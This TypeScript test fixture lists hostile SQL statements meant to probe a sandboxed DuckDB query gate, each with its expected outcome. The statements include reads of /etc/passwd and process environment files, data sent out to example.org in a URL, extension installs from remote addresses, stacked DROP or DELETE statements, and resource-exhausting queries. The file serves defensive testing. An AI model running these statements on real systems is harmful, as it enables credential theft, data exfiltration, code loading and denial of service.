/** One hostile statement: why it is here, and how it may end. */
export interface Attack {
  readonly why: string;
  readonly sql: string;
  /** refused by the gate, failed in the engine, stopped by a limit, or harmless: answered without anything that readers may not see. */
  readonly ends: "refused" | "failed" | "stopped" | "harmless";
}

/** Attacks that end in the same way. */
export const all = (
  ends: Attack["ends"],
  listed: readonly (readonly [why: string, sql: string])[],
): Attack[] => listed.map(([why, sql]) => ({ why, sql, ends }));

/** Files of the machine: each way the engine knows to read one, and to write one. {SECRET} is the path of a file that is there. */
export const FILES: readonly Attack[] = [
  ...all("failed", [["reads a file named as if it were a table", "SELECT * FROM '{SECRET}'"]]),
  ...all("refused", [
    ["reads a text file", "SELECT * FROM read_text('{SECRET}')"],
    ["reads a binary file", "SELECT * FROM read_blob('{SECRET}')"],
    ["reads a file as a table of text", "SELECT * FROM read_csv('{SECRET}', columns = {'line': 'VARCHAR'})"],
    ["guesses the layout itself", "SELECT * FROM read_csv_auto('{SECRET}')"],
    ["asks only for the layout, which holds the first line", "SELECT * FROM sniff_csv('{SECRET}')"],
    ["the system's list of accounts", "SELECT * FROM read_csv('/etc/passwd', delim = ':')"],
    [
      "the environment of the process, where passwords stand",
      "SELECT * FROM read_blob('/proc/self/environ')",
    ],
    ["the memory map of the process", "SELECT * FROM read_text('/proc/self/maps')"],
    ["lists the folder", "SELECT * FROM glob('*')"],
    ["lists the folder above, where the warehouse is", "SELECT * FROM glob('../*')"],
    ["lists the root", "SELECT * FROM glob('/**')"],
    ["reads JSON", "SELECT * FROM read_json('{SECRET}')"],
    ["reads JSON as text", "SELECT * FROM read_json_objects('{SECRET}')"],
    ["reads Parquet", "SELECT * FROM read_parquet('../facts/*.parquet')"],
    ["the header of a Parquet file", "SELECT * FROM parquet_metadata('{SECRET}')"],
    ["the schema of a Parquet file", "SELECT * FROM parquet_schema('{SECRET}')"],
    ["the key-value part of a Parquet file", "SELECT * FROM parquet_kv_metadata('{SECRET}')"],
    ["a path put together at run time", "SELECT * FROM read_text(concat('{SEC', 'RET}'))"],
    ["several paths at once", "SELECT * FROM read_text(['{SECRET}', '/etc/hosts'])"],
    ["a file address with a scheme", "SELECT * FROM read_text('file://{SECRET}')"],
    ["a file behind another statement's table", "SELECT * FROM query_table('{SECRET}')"],
    ["a file named in a statement in a text", "SELECT * FROM query('SELECT * FROM read_text(''{SECRET}'')')"],
    ["a file within a common table", "WITH t AS (SELECT * FROM read_text('{SECRET}')) SELECT * FROM t"],
    ["a file within a subquery", "SELECT (SELECT content FROM read_text('{SECRET}'))"],
    ["only whether a file exists, told by the kind of error", "SELECT count(*) FROM read_blob('{SECRET}')"],
    ["runs a plan that reads a file", "EXPLAIN ANALYZE SELECT * FROM read_text('{SECRET}')"],
    [
      "the plan alone, which opens the file to know its columns",
      "EXPLAIN SELECT * FROM read_csv('{SECRET}')",
    ],
    [
      "the warehouse itself, as a file",
      "SELECT * FROM read_duckdb('../fengsui.duckdb', table_name = 'submission')",
    ],
    ["imports a database: the file is read while the statement is parsed", "IMPORT DATABASE '{FOLDER}'"],
    ["writes a file", "COPY (SELECT 42) TO '{FOLDER}/written.csv'"],
    ["writes a table to a file", "COPY area TO '{FOLDER}/written.parquet' (FORMAT parquet)"],
    [
      "runs a writing plan: the engine calls it an EXPLAIN",
      "EXPLAIN ANALYZE COPY (SELECT 42) TO '{FOLDER}/written.csv'",
    ],
    ["loads a table from a file", "COPY area FROM '{SECRET}'"],
    ["writes the whole database", "EXPORT DATABASE '{FOLDER}/exported'"],
    ["opens the warehouse beside the copy", "ATTACH '../fengsui.duckdb' AS whole"],
    ["opens a database in memory, to which everything is allowed", "ATTACH ':memory:' AS scratch"],
  ]),
];

/** The network, and code from it. */
export const NETWORK: readonly Attack[] = [
  ...all("refused", [
    ["a table from the network", "SELECT * FROM read_csv('https://example.org/a.csv')"],
    [
      "sends what it read away in an address",
      "SELECT * FROM read_text('http://example.org/?' || (SELECT min(name) FROM area))",
    ],
    ["a table from object storage", "SELECT * FROM read_parquet('s3://bucket/a.parquet')"],
    ["a host in a Windows path", "SELECT * FROM read_text('\\\\host\\share\\a')"],
    ["a table from another database server", "SELECT * FROM postgres_scan('host=db', 'public', 'person')"],
    [
      "a table from a spreadsheet, by an extension that would be fetched",
      "SELECT * FROM read_xlsx('{SECRET}')",
    ],
    ["a table from SQLite, likewise", "SELECT * FROM sqlite_scan('{SECRET}', 't')"],
    ["fetches an extension", "INSTALL httpfs"],
    ["fetches one from anybody", "INSTALL h3 FROM community"],
    ["fetches one from an address", "INSTALL 'https://example.org/own.duckdb_extension'"],
    ["loads machine code from a file", "LOAD '{FOLDER}/own.duckdb_extension'"],
    ["fetches newer extensions", "UPDATE EXTENSIONS"],
    ["opens a database over the network", "ATTACH 'https://example.org/a.duckdb'"],
  ]),
];

/** Settings, which would remove the other limits. */
export const SETTINGS: readonly Attack[] = [
  ...all("refused", [
    ["turns access to files on", "SET enable_external_access = true"],
    ["for everybody", "SET GLOBAL enable_external_access = true"],
    ["more memory", "SET memory_limit = '64GB'"],
    ["more memory, another spelling", "PRAGMA memory_limit = '64GB'"],
    ["back to the default, which is four fifths of the machine", "RESET memory_limit"],
    ["more threads", "SET threads = 64"],
    ["room on disk to spill to", "SET temp_directory = '{FOLDER}'"],
    ["unlocks the settings", "SET lock_configuration = false"],
    ["a folder that may be read", "SET allowed_directories = ['/']"],
    ["writes each plan to a file", "PRAGMA profiling_output = '{FOLDER}/plans.json'"],
    ["prints plans into the answers of others", "PRAGMA enable_profiling"],
    ["keeps what others ask", "CALL enable_logging()"],
    ["keeps what others ask, behind EXPLAIN ANALYZE, which runs it", "EXPLAIN ANALYZE CALL enable_logging()"],
    ["a setting behind EXPLAIN ANALYZE", "EXPLAIN ANALYZE SET threads = 64"],
    ["a variable that the next asker would meet", "SET VARIABLE a = 1"],
    ["another search path, so that names mean other tables", "SET schema = 'temp'"],
    ["another database", "USE temp"],
    ["a prepared statement that the next asker would meet", "PREPARE p AS SELECT 1"],
    ["a query log to a file", "PRAGMA log_query_path = '{FOLDER}/log.txt'"],
    ["writes the file anew", "CHECKPOINT"],
    ["holds a transaction open", "BEGIN TRANSACTION"],
    ["reads the settings", "SELECT name, value FROM duckdb_settings()"],
    ["reads the log, which nobody can turn on", "SELECT * FROM duckdb_logs"],
    ["files written while running", "SELECT * FROM duckdb_temporary_files()"],
    ["where the copy lies, by the older name", "SELECT * FROM pragma_database_list"],
    ["an environment variable", "SELECT getenv('HOME')"],
    ["leaves a secret for the network", "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')"],
    ["the same behind a comment", "/* a */ EXPLAIN -- b\n ANALYZE CALL enable_logging()"],
    ["runs it", "EXECUTE p"],
    ["the secrets that are kept, in a folder that is not opened", "SELECT * FROM duckdb_secrets()"],
  ]),
  ...all("harmless", [
    [
      "where the copy lies, which whoever may ask may know",
      "SELECT database_name, path FROM duckdb_databases()",
    ],
  ]),
];

/** Several statements, other kinds of statements, and texts that are not statements. */
export const STATEMENTS: readonly Attack[] = all("refused", [
  ["two statements", "SELECT 1; SELECT 2"],
  ["a second one hidden behind a comment", "SELECT 1 -- a\n; DROP TABLE area"],
  ["a second one behind blanks", "SELECT 1;\n\n\n\n\nDELETE FROM area"],
  ["nothing", ""],
  ["only a comment: the engine's parser stumbles", "-- nothing"],
  ["only semicolons", ";;"],
  ["more text than a person writes", `SELECT ${"1 + ".repeat(40_000)}1`],
  ["a table of its own, visible to the next asker", "CREATE TEMP TABLE area AS SELECT 1 AS code"],
  ["a view over a table, in its place", "CREATE OR REPLACE TEMP VIEW observation AS SELECT 0 AS value"],
  ["a macro in the place of a function", "CREATE TEMP MACRO sum(x) AS 0"],
  ["a change", "UPDATE area SET name = 'x'"],
  ["a change behind EXPLAIN ANALYZE", "EXPLAIN ANALYZE DELETE FROM area"],
  ["a table behind EXPLAIN ANALYZE", "EXPLAIN ANALYZE CREATE TEMP TABLE t AS SELECT 1"],
  ["a second one behind a pivot", "PIVOT area ON level USING count(*); DROP TABLE area"],
]);

/** Tables that are not for readers: there are none in the copy, under any name. */
export const PRIVATE: readonly Attack[] = [
  ...all("refused", [
    ["report rows as of an instant", "SELECT * FROM layoff_report_as_of(TIMESTAMP '2099-01-01')"],
    ["a private table by a text", "SELECT * FROM query_table('fact_layoff_report')"],
    ["the bytes of the tables, by their statistics", "SELECT stats FROM pragma_storage_info('case_event')"],
  ]),
  ...all("failed", [
    ["the register of enterprises", "SELECT * FROM employer"],
    ["report rows, with enterprises", "SELECT * FROM fact_layoff_report"],
    ["a private schema", "SELECT * FROM priv.person"],
    ["messages with names", "SELECT body_text FROM main.notice"],
    [
      "a view's text cannot reach the warehouse",
      "SELECT * FROM fengsui.main.submission, whole.main.employer",
    ],
  ]),
  ...all("harmless", [
    [
      "the text of every view and macro",
      "SELECT sql FROM duckdb_views() UNION ALL SELECT macro_definition FROM duckdb_functions()",
    ],
    ["evidence of verdicts, where enterprises are named: it is not published", "SELECT * FROM verdict"],
    ["every column of every table", "SELECT table_name, column_name, comment FROM duckdb_columns()"],
  ]),
];

/** Memory and time. */
export const BOMBS: readonly Attack[] = [
  ...all("stopped", [
    ["two billion bytes that the engine's limit does not meter", "SELECT length(repeat('x', 2000000000))"],
    ["the same in steps", "SELECT length(repeat(repeat('x', 100000), 30000))"],
    ["a list of a billion", "SELECT len(range(1000000000))"],
    ["a sort that cannot spill", "SELECT * FROM range(100000000) AS t(a) ORDER BY hash(a) DESC"],
    ["distinct values without end", "SELECT count(DISTINCT hash(a)) FROM range(1000000000) AS t(a)"],
    ["everything in one list", "SELECT len(list(a)) FROM range(1000000000) AS t(a)"],
    [
      "a product of tables",
      "SELECT count(*) FROM range(1000000) a, range(1000000) b WHERE a.range * b.range < 0",
    ],
    [
      "a recursion without end",
      "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT max(n) FROM t",
    ],
    [
      "a pattern at its worst, over long texts",
      "SELECT count(*) FROM range(100000) WHERE levenshtein(repeat('ab', 5000), repeat('ba', 5000) || range) = 1",
    ],
    [
      "a plan of a long run",
      "EXPLAIN ANALYZE SELECT count(*) FROM range(1000000) a, range(1000000) b WHERE a.range + b.range = -1",
    ],
  ]),
  ...all("harmless", [
    ["a million rows: cut at the limit of rows", "SELECT * FROM range(1000000)"],
    ["wide rows: cut at the limit of bytes", "SELECT repeat('x', 2000) FROM range(1000)"],
    ["names and texts that steer a terminal", "SELECT chr(27) || '[2J' AS \"\u001b]0;a\u0007\""],
  ]),
];

/** All of them but those on functions, which have a file of their own. */
export const STATEMENT_ATTACKS: readonly Attack[] = [
  ...FILES,
  ...NETWORK,
  ...SETTINGS,
  ...STATEMENTS,
  ...PRIVATE,
  ...BOMBS,
];
